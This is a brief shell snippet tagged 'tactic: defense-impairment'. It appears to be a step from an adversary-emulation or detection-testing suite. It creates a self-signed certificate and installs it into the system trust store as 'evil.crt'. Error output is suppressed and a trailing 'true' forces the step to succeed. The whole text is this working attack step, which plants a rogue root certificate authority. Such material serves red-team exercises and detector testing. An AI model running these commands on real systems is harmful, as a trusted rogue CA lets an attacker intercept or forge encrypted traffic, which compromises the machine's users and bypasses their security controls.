# tactic: defense-impairment
# install a new root certificate
openssl req -x509 -newkey rsa:2048 -nodes -keyout $HOME/k.pem -out $HOME/ca.crt -subj /CN=x -days 1 2>/dev/null
cp $HOME/ca.crt /usr/local/share/ca-certificates/evil.crt 2>/dev/null; update-ca-certificates 2>/dev/null; true
